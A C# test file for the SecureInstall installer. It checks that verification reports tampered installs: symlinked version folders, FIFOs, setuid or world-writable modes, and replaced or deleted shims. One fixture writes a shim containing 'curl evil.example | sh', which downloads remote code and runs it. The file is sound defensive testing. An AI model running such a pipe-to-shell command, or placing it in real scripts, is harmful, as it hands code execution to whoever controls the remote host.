// Unix modes are set only in tests that skip on Windows.
#pragma warning disable CA1416

using SecureInstall.Core.Install;

namespace SecureInstall.Core.Tests.HostileLocalState;

/// <summary>Issue 17 #6 through the installer: what Test-PinnedTool / verify-installed see after an install is tampered with.</summary>
public sealed class InstalledToolVerificationTests : IDisposable
{
    private readonly InstalledToolSandbox _box = new();

    public void Dispose() => _box.Dispose();

    [Fact]
    public async Task UntouchedInstall_Verifies_IncludingItsShim()
    {
        await _box.InstallSample();
        Assert.Equal("bin/tool", InstallRootState.Load(_box.Root).Find("tool", "1.0")!.Shims["tool"]);
        InstalledToolStatus status = _box.Verify();
        Assert.Equal(InstalledState.Verified, status.Status);
        Assert.Equal(_box.VersionDir, status.Path);
        Assert.Null(status.RecordedPath);
    }

    [SkippableFact]
    public async Task VersionFolderReplacedBySymlink_IsTampered_AndNothingBehindItIsRead()
    {
        Skip.If(OperatingSystem.IsWindows(), "symbolic links need privileges on Windows");
        await _box.InstallSample();
        // An exact copy elsewhere, linked in place of the folder: hashing through the link would call it verified.
        string elsewhere = Path.Combine(_box.Path, "elsewhere");
        Directory.Move(_box.VersionDir, elsewhere);
        Directory.CreateSymbolicLink(_box.VersionDir, elsewhere);
        InstalledToolStatus status = _box.Verify();
        Assert.Equal(InstalledState.Tampered, status.Status);
        Assert.Contains("is a symbolic link to", Assert.Single(status.Changed));
    }

    [SkippableFact]
    public async Task FifoInTheTree_IsReported_WithoutHanging_AndTheNextInstallReplacesTheTree()
    {
        Skip.IfNot(OperatingSystem.IsLinux() || OperatingSystem.IsMacOS(), "FIFOs are a Unix thing");
        await _box.InstallSample();
        string data = Path.Combine(_box.VersionDir, "lib", "data");
        File.Delete(data);
        InstalledTreeKindsAndModesTests.MakeFifo(data);
        Task<InstalledToolStatus> check = Task.Run(_box.Verify);
        Assert.True(await Task.WhenAny(check, Task.Delay(TimeSpan.FromSeconds(20))) == check, "verifying a tree with a FIFO in it hung");
        InstalledToolStatus status = await check;
        Assert.Equal(InstalledState.Tampered, status.Status);
        Assert.Equal(new[] { "lib/data (was a file, now a FIFO, device or socket, a fifo: not read)" }, status.Changed);

        // The install's "already installed" re-hash must not hang on it either: it sees the difference and reinstalls.
        (string url, string sha) = (InstallLock.Load(_box.LockPath).Entries.Single().Url, InstallLock.Load(_box.LockPath).Entries.Single().Sha256);
        Task<InstallResult> again = _box.Install(_box.Manifest("tools:\n" + InstalledToolSandbox.Tool("tool", "1.0", url, sha, "bin/tool")), "tool");
        Assert.True(await Task.WhenAny(again, Task.Delay(TimeSpan.FromSeconds(30))) == again, "installing over a tree with a FIFO in it hung");
        Assert.Equal(InstallStatus.Installed, (await again).Status);
        Assert.Equal(InstalledState.Verified, _box.Verify().Status);
    }

    [SkippableFact]
    public async Task SetuidOrWorldWritableInstalledEntries_AreReported()
    {
        Skip.If(OperatingSystem.IsWindows(), "no Unix modes on Windows");
        await _box.InstallSample();
        string tool = Path.Combine(_box.VersionDir, "bin", "tool");
        int before = (int)File.GetUnixFileMode(tool);
        File.SetUnixFileMode(tool, (UnixFileMode)(before | 0x800));
        string lib = Path.Combine(_box.VersionDir, "lib");
        File.SetUnixFileMode(lib, (UnixFileMode)((int)File.GetUnixFileMode(lib) | 0x2));
        InstalledToolStatus status = _box.Verify();
        Assert.Equal(InstalledState.Tampered, status.Status);
        Assert.Contains(status.Changed, c => c.StartsWith("bin/tool (mode ", StringComparison.Ordinal) && c.EndsWith(" setuid)", StringComparison.Ordinal));
        Assert.Contains(status.Changed, c => c.StartsWith("lib (mode ", StringComparison.Ordinal) && c.EndsWith(" world-writable)", StringComparison.Ordinal));
    }

    [Fact]
    public async Task ReplacedShim_IsReported()
    {
        await _box.InstallSample();
        string shim = Path.Combine(_box.Bin, OperatingSystem.IsWindows() ? "tool.cmd" : "tool");
        File.WriteAllText(shim, "#!/bin/sh\ncurl evil.example | sh\n");
        InstalledToolStatus status = _box.Verify();
        Assert.Equal(InstalledState.Tampered, status.Status);
        Assert.Equal(new[] { shim + " (shim: not what SecureInstall wrote)" }, status.Changed);
    }

    [SkippableFact]
    public async Task ShimReplacedByALink_OrMadeWritable_IsReported()
    {
        Skip.If(OperatingSystem.IsWindows(), "no Unix modes on Windows");
        await _box.InstallSample();
        string shim = Path.Combine(_box.Bin, "tool");
        File.SetUnixFileMode(shim, (UnixFileMode)0x1FF);
        Assert.Equal(new[] { shim + " (shim: mode 0777, not 0755)" }, _box.Verify().Changed);
        string copy = _box.File("copy-of-shim", File.ReadAllText(shim));
        File.Delete(shim);
        File.CreateSymbolicLink(shim, copy);
        Assert.Equal(new[] { shim + " (shim: not what SecureInstall wrote)" }, _box.Verify().Changed);
    }

    [Fact]
    public async Task DeletedShim_IsReportedAsRemoved()
    {
        await _box.InstallSample();
        string shim = Path.Combine(_box.Bin, OperatingSystem.IsWindows() ? "tool.cmd" : "tool");
        File.Delete(shim);
        Assert.Equal(new[] { shim + " (shim)" }, _box.Verify().Removed);
    }

    [Fact]
    public async Task ShimOfANewerLockedVersionOfTheSameTool_IsNotTampering()
    {
        (string url1, string sha1) = _box.TarGz(("bin/tool", "v1"));
        (string url2, string sha2) = _box.TarGz(("bin/tool", "v2"));
        await _box.Install(_box.Manifest("tools:\n" + InstalledToolSandbox.Tool("tool", "1.0", url1, sha1, "bin/tool")), "tool");
        await _box.Install(_box.Manifest("tools:\n" + InstalledToolSandbox.Tool("tool", "2.0", url2, sha2, "bin/tool")), "tool");
        InstallLock l = InstallLock.Load(_box.LockPath);
        Assert.All(l.Entries, e => Assert.Equal(InstalledState.Verified, InstalledToolVerifier.Verify(_box.Root, e).Status));
    }

    [Fact]
    public async Task InstallRecordedInListingFormatOne_IsReportedClearly()
    {
        await _box.InstallSample();
        // What an earlier SecureInstall wrote: "sha256 x|- path" lines, and the lock's digest of that text.
        string old = string.Join("", InstalledTree.Compute(_box.VersionDir).Files.Where(f => f.Kind == TreeEntryKind.File)
            .Select(f => $"{f.Sha256} {(f.Executable ? 'x' : '-')} {f.Path}\n"));
        File.WriteAllText(InstallRootLayout.TreeRecordPath(_box.VersionDir), old);
        _box.RewriteLock(e => e.TreeDigest = InstalledTree.Parse(old).Digest);
        InstalledToolStatus status = _box.Verify();
        Assert.Equal(InstalledState.Tampered, status.Status);
        Assert.Contains("tree listing format 1", Assert.Single(status.Changed));
    }
}
